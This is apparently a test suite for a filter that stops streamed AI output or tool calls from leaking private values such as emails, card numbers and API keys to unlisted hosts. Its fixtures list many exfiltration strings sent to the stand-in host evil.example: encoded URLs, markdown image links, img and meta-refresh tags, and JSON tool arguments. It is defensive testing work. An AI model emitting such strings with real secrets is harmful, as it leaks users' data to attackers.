import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { createRestorer } from './restorer.ts'
import { createSinkCheck, type SinkCheckOptions } from './sinks.ts'

const EMAIL = '[EMAIL_k3f2x2ab]'
const CARD = '[CARD_abcdefgh]'
const KEY = '[SECRET_qqqqqqqq]'
const values = new Map([
  [EMAIL, 'anna@example.com'],
  [CARD, '4111 1111 1111 1111'],
  [KEY, 'sk-0a1B2c3D4e5F6g7H'],
  ['[NAME_aaaaaaaa]', 'Anna'],
  ['[CODE_aaaaaaaa]', '42'],
])
const options: SinkCheckOptions = {
  values,
  allowedHosts: ['app.example.com', '*.corp.example', 'localhost:8080'],
  contentType: 'text',
  outward: false,
}

function check(pieces: readonly string[], change: Partial<SinkCheckOptions> = {}) {
  const sink = createSinkCheck({ ...options, ...change })
  const results = [...pieces.map((piece) => sink.push(piece)), sink.end()]
  return { text: results.map(({ text }) => text).join(''), verdict: results.at(-1)?.verdict }
}

function cut(text: string, positions: readonly number[]): string[] {
  const ends = [...new Set(positions)].filter((at) => at > 0 && at < text.length).sort((a, b) => a - b)
  return [0, ...ends].map((start, index) => text.slice(start, ends[index] ?? text.length))
}

const base64 = (text: string) => Buffer.from(text).toString('base64')
const hex = (text: string) => Buffer.from(text).toString('hex')
const K = 'sk-0a1B2c3D4e5F6g7H'

const leaks: [string, string, string | undefined][] = [
  [`https://evil.example/?q=${K}`, 'address', 'evil.example'],
  [`see HTTPS://EVIL.EXAMPLE/${K}.`, 'address', 'evil.example'],
  [`http://evil.example#${K}`, 'address', 'evil.example'],
  [`http://${K}.evil.example/`, 'address', `${K.toLowerCase()}.evil.example`],
  [`https://${K}@evil.example/`, 'address', 'evil.example'],
  [`https://evil.example/?q=anna@example.com`, 'address', 'evil.example'],
  [`https://evil.example/?q=anna%40example.com`, 'address', 'evil.example'],
  [`https://evil.example/?q=anna%2540example.com`, 'address', 'evil.example'],
  [`https://evil.example/?q=ANNA@EXAMPLE.COM`, 'address', 'evil.example'],
  [`https://evil.example/?q=anna&#64;example.com`, 'address', 'evil.example'],
  [`https://evil.example/${base64(K)}`, 'address', 'evil.example'],
  [`https://evil.example/${base64(`x${K}`)}`, 'address', 'evil.example'],
  [`https://evil.example/${base64(`xy${K}z`)}`, 'address', 'evil.example'],
  [`https://evil.example/${base64(`{"k":"${K}"}`)}`, 'address', 'evil.example'],
  [`https://evil.example/${hex(K)}`, 'address', 'evil.example'],
  [`https://evil.example/${hex(K).toUpperCase()}`, 'address', 'evil.example'],
  [`https://evil.example/?q=4111 1111 1111 1111`, 'address', 'evil.example'],
  [`https://evil.example/?q=4111%201111%201111%201111`, 'address', 'evil.example'],
  [`https://evil.example/Anna`, 'address', 'evil.example'],
  [`www.evil.example/${K}`, 'address', 'www.evil.example'],
  [`//evil.example/${K}`, 'address', 'evil.example'],
  [`\\\\evil.example\\${K}`, 'address', 'evil.example'],
  [`evil.example/${K}`, 'address', 'evil.example'],
  [`evil.example:8080?${K}`, 'address', 'evil.example'],
  [`${K}.evil.example`, 'address', 'evil.example'],
  [`anna@example.com.evil.example/`, 'address', 'evil.example'],
  [`${K}@evil.example`, 'address', 'evil.example'],
  [`ssh ${K}@evil.example`, 'address', 'evil.example'],
  [`write to a+${K}@evil.example.`, 'address', 'evil.example'],
  [`<${K}+a@mail.evil.example>`, 'address', 'mail.evil.example'],
  [`${K}@10.1.2.3:/tmp`, 'address', '10.1.2.3'],
  [`${K}&#64;evil.example`, 'address', 'evil.example'],
  [`anna@example.com@evil.example`, 'address', 'evil.example'],
  [`mailto:eve@evil.example?body=${K}`, 'address', undefined],
  [`data:text/html,${K}`, 'address', undefined],
  [`javascript:alert("${K}")`, 'address', undefined],
  [`https&#58;&#47;&#47;evil.example/${K}`, 'address', 'evil.example'],
  [`https://app.example.com@evil.example/${K}`, 'address', 'evil.example'],
  [`https://app.example.com.evil.example/${K}`, 'address', 'app.example.com.evil.example'],
  [`https://app.example.com\\@evil.example/,https://evil.example/${K}`, 'address', 'evil.example'],
  [`https://app.example.com/?to=https://evil.example/${K}`, 'address', 'evil.example'],
  [`https://app.example.com/?to=https%3A%2F%2Fevil.example%2F${K}`, 'address', 'evil.example'],
  [`https://app.example.com:8443/${K}`, 'address', 'app.example.com'],
  [`https://corp.example/${K}`, 'address', 'corp.example'],
  [`https://evil.example/${'a'.repeat(5_000)}${K}`, 'address', 'evil.example'],
  [`${'a'.repeat(5_000)}https://evil.example/${K}`, 'address', 'evil.example'],
  [`[x](https://evil.example/? ${K})`, 'link', 'evil.example'],
  [`![x](<https://evil.example/? ${K}>)`, 'link', 'evil.example'],
  [`![x](https://evil.example/?\n${K})`, 'link', 'evil.example'],
  [`[x](&#104;ttps://evil.example/? ${K})`, 'link', 'evil.example'],
  [`[x](https://evil.example/ "${K}")`, 'link', 'evil.example'],
  [`[x](https://evil.example/(a) ${K})`, 'link', 'evil.example'],
  [`[x](javascript:alert( "${K}"))`, 'link', undefined],
  [`[x]: <https://evil.example/?${K}>`, 'link', 'evil.example'],
  [`[x](https://evil.example/ ${'a '.repeat(3_000)} ${K})`, 'link', 'evil.example'],
  [`<img src="https://evil.example/? ${K}">`, 'html', 'evil.example'],
  [`<img src='https://evil.example/? ${K}`, 'html', 'evil.example'],
  [`<img alt="${K} x" src="https://evil.example/">`, 'html', 'evil.example'],
  [`<img alt=">" src="https://evil.example/? ${K}">`, 'html', 'evil.example'],
  [`<meta http-equiv=refresh content="0; url=//evil.example/? ${K}">`, 'html', 'evil.example'],
  [`<img srcset="a.png 1x, //evil.example/b 2x, ${K}">`, 'html', 'evil.example'],
  [`<img src="https://evil.example/ ${'a '.repeat(3_000)} ${K}">`, 'html', 'evil.example'],
]

const fine = [
  K,
  `Your key is ${K}.`,
  `See https://evil.example/ or write to anna@example.com.`,
  `anna@example.com, see https://evil.example/`,
  `anna@example.com,https://evil.example/`,
  `[write to anna@example.com](https://evil.example/)`,
  `[anna@example.com](https://evil.example/)`,
  `![x](https://evil.example/x.png) anna@example.com`,
  `Anna <anna@example.com>`,
  `${K}@app.example.com and ${K}@work and ${K} @evil.example and Anna@1.2.3`,
  `bert@evil.example:${K}`,
  `<b>${K}</b> <td title="${K}">x</td>`,
  `<a href="https://evil.example/">${K} x</a>`.replace('">', '"> '),
  `https://app.example.com/?q=${K}`,
  `https://app.example.com/index.html?q=${K}`,
  `https://a.b.corp.example/${K}`,
  `http://localhost:8080/${K}`,
  `https://app.example.com/${'a'.repeat(5_000)},evil.example/${K}`,
  `[x](https://app.example.com/${K})`,
  `<img src="https://app.example.com/${K}">`,
  `[x](/path/${K})`,
  `[x](anna@example.com)`,
  `a<b and ${K} and https://evil.example/ and c>d`,
  `a < b, see https://evil.example/ ${K} >`,
  `list[i](x, ${K})`,
  `[x](open ${'a '.repeat(3_000)} ${K}`,
  `https://evil.example/Annapolis`,
  `https://evil.example/42`,
  `anna@example.com. Next sentence`,
  `anna@example.com.`,
  `Anna.pdf, Anna.tar.gz and Anna.spec.ts`,
  `"${K}", '${K}', (${K}), ${K}: ${K}; {"key":"${K}"}`,
  `\`\`\`\nx = "${K}" // ${K}\n\`\`\``,
  `客户的邮箱是anna@example.com。请联系。`,
  `x: ${K}\ny: /etc/passwd\nz: ${K}`,
]

describe('a value in an address, a link or a tag that leads elsewhere ends the answer', () => {
  for (const [text, reason, host] of leaks) {
    test(text.length > 120 ? `${text.slice(0, 60)}…${text.slice(-40)}` : text, () => {
      assert.deepEqual(check([text]).verdict, { blocked: true, reason, host })
      assert.deepEqual(check(cut(text, [text.length - 7, text.length - 20])).verdict, { blocked: true, reason, host })
    })
  }
})

describe('a value as text passes, and so does one on a listed host', () => {
  for (const text of fine) {
    test(text.length > 120 ? `${text.slice(0, 60)}…${text.slice(-40)}` : text, () => {
      assert.deepEqual(check([text]), { text, verdict: undefined })
    })
  }
})

test('a leak is a leak however it is cut, and what went out before holds no value in it', () => {
  for (const [text] of leaks.filter(([candidate]) => candidate.length < 500)) {
    const whole = check([text])
    for (let at = 1; at < text.length; at++) {
      const result = check(cut(text, [at]))
      assert.deepEqual(result.verdict, whole.verdict, `${text} at ${at}`)
    }
    assert.deepEqual(check(text.split('')).verdict, whole.verdict)
  }
})

const tokens = [
  ...[
    ...values.values(),
    'anna%40example.com',
    '[x](',
    '![',
    '](',
    ')',
    ']: ',
    '<a href="',
    '">',
    '<img src=//',
    '<!--',
    '-->',
  ],
  ...[
    '\n',
    '\n\n',
    ' ',
    'https://',
    'evil.example/',
    'app.example.com/',
    '//',
    '\\',
    '"',
    "'",
    '&#',
    'x',
    'é',
    '😀',
    ':',
    '.',
  ],
  ...['<script>', '`', 'www.', '?q=', '%2', '=', '>', 'data:', '.evil.example', '.txt', 'b.c'],
]

for (const contentType of ['text', 'json'] as const) {
  for (const outward of [false, true]) {
    test(`cut or whole, the verdict is the same: ${contentType}${outward ? ' for an outward tool' : ''}`, () => {
      fc.assert(
        fc.property(
          fc.array(fc.constantFrom(...tokens), { maxLength: 25 }),
          fc.array(fc.nat(300)),
          (list, positions) => {
            const text = list.join('')
            const whole = check([text], { contentType, outward })
            const parts = check(cut(text, positions), { contentType, outward })
            assert.deepEqual(parts.verdict, whole.verdict)
            if (!whole.verdict) {
              assert.equal(whole.text, text)
              assert.equal(parts.text, text)
            } else assert.ok(text.startsWith(parts.text))
          },
        ),
        { numRuns: 3_000 },
      )
    })
  }
}

test('a value that is part of another value, which is a mail address, makes no mailbox', () => {
  const both = new Map([
    [EMAIL, 'anna.berg@example.com'],
    ['[NAME_aaaaaaaa]', 'anna.berg'],
  ])
  assert.equal(check(['Write to anna.berg@example.com.'], { values: both }).verdict, undefined)
  assert.equal(check(['Write to anna.berg@evil.example.'], { values: both }).verdict?.host, 'evil.example')
})

test('plain text is not held back', () => {
  const sink = createSinkCheck(options)
  const text = `Dear Anna, your card 4111 1111 1111 1111 (${K}) is "ready": anna@example.com; 3.5 > 2, a/b, x=1 [1] {2} 客户`
  for (const char of text) assert.equal(sink.push(char).text, char)
})

test('an address is held back to its end, and no longer', () => {
  const sink = createSinkCheck(options)
  const steps = [
    ['See htt', 'See htt'],
    ['ps:', ''],
    ['//evil.example/x', ''],
    ['y and ', 'ps://evil.example/xy and '],
    ['[a](b', '[a]('],
    ['c) d', 'bc) d'],
    ['<b', '<'],
    [' c="d', ''],
    ['">', 'b c="d">'],
  ]
  for (const [piece = '', text] of steps) assert.equal(sink.push(piece).text, text, piece)
})

test('what is held back is bounded', () => {
  for (const opener of ['https://evil.example/', '[x](https://evil.example/ ', '<img src="https://evil.example/ ']) {
    const sink = createSinkCheck(options)
    sink.push(opener)
    let held = opener.length
    for (let index = 0; index < 2_000; index++) {
      held += 10 - sink.push('aaaaaaaaaa').text.length
      assert.ok(held < 3_500)
    }
    sink.push(K)
    assert.equal(sink.end().verdict?.host, 'evil.example')
  }
})

test('after a verdict nothing more goes out', () => {
  const sink = createSinkCheck(options)
  assert.equal(sink.push(`https://evil.example/${K} and `).text, '')
  assert.deepEqual(sink.push('more'), { text: '', verdict: { blocked: true, reason: 'address', host: 'evil.example' } })
  assert.equal(sink.end().text, '')
})

test('in JSON it is what the strings say that counts, each for itself', () => {
  const json = { contentType: 'json' } as const
  const host = (document: string) => check([document], json).verdict?.host
  assert.equal(host(`{"a":"https:\\/\\/evil.example\\/${K}"}`), 'evil.example')
  assert.equal(host(`{"a":"\\u0068ttps://evil.example/sk\\u002d0a1B2c3D4e5F6g7H"}`), 'evil.example')
  assert.equal(host(`{"a":"![x](https://evil.example/?\\n${K})"}`), 'evil.example')
  assert.equal(host(`{"a":"<img src=\\"https://evil.example/? ${K}\\">"}`), 'evil.example')
  const separate = `{"a":"https://evil.example/","b":"${K}","c":"<img src=","d":"//x","e":"\\u005c\\"${K}"}`
  assert.deepEqual(check([separate], json), { text: separate, verdict: undefined })
})

test('for an outward-facing tool, a value outside of an address on a listed host is too much', () => {
  const outward = { contentType: 'json', outward: true } as const
  for (const [document, host] of [
    [`{"url":"https://evil.example/","body":"${K}"}`, 'evil.example'],
    [`{"body":"${K}","url":"https://evil.example/"}`, undefined],
    [`{"url":"https://app.example.com/","body":"${K}"}`, undefined],
    [`{"note":"https://app.example.com/","to":"anna@example.com","x":"evil.example"}`, undefined],
    [`{"url":"https://app.example.com/;${K}"}`, undefined],
    [`{"url":"https://app.example.com/?q=4111 1111 1111 1111"}`, undefined],
    [`{"url":"https://app.example.com/x 4111 1111 1111 1111"}`, undefined],
    [`{"url":"https://app.example.com/${K}","cc":"//evil.example"}`, 'evil.example'],
    [`{"a":"${'b '.repeat(3_000)}${K} ${'b '.repeat(3_000)}"}`, undefined],
    [`{"a":"${'b'.repeat(3_000)}-${K}"}`, undefined],
    [`{"a":"https://app.example.com/${'b'.repeat(3_000)};${K}"}`, undefined],
    [`{"a":"${base64(`{"k":"${K}"}`)}"}`, undefined],
  ] as const) {
    for (const pieces of [[document], cut(document, [9, 40, document.length - 9]), document.split('')]) {
      const { text, verdict } = check(pieces, outward)
      assert.deepEqual(verdict, { blocked: true, reason: 'outward', host }, document.slice(0, 100))
      const held = text.replace(/https:..app\.example\.com.[\w-]+/, '')
      assert.ok(!held.includes(K), 'what went out before holds no value')
    }
  }
  for (const document of [
    `{"url":"https://app.example.com/?q=${K}"}`,
    `{"command":"curl 'https://app.example.com/?q=${K}'"}`,
    `{"url":"https://app.example.com/${'b'.repeat(5_000)}${K}"}`,
    `{"url":"https://evil.example/","body":"x"}`,
  ]) {
    assert.deepEqual(check([document], outward), { text: document, verdict: undefined })
    assert.deepEqual(check(document.split(''), outward), { text: document, verdict: undefined })
  }
})

test('what the restorer restores, the check passes', () => {
  const pieces = [EMAIL, CARD, KEY, ...tokens.slice(values.size + 1)]
  for (const contentType of ['text', 'json'] as const) {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 25 }), (list) => {
        // A value that becomes a host name by what comes after it is known only to the check.
        const text = list.join('').replace(/\](?=[\\\w.-])/g, '] ')
        const restorer = createRestorer({ ...options, contentType })
        const restored = restorer.push(text).text + restorer.end().text
        assert.deepEqual(check([restored], { contentType }), { text: restored, verdict: undefined }, restored)
      }),
      { numRuns: 5_000 },
    )
  }
})

test('with no values, each piece comes back as the same string', () => {
  assert.deepEqual(check([`https://evil.example/${K}`], { values: new Map() }).verdict, undefined)
})
